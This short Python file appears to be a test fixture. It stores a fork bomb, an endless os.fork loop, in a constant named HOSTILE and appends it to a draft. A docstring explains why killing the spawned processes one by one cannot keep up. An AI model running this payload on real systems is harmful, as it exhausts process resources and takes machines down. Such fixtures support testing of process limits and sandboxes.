"""Each process makes two. Killing them one after the other is a lost race, as the next are there before the list is
read.
"""

HOSTILE = r"""
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""


def write(draft):
    draft.last(HOSTILE)
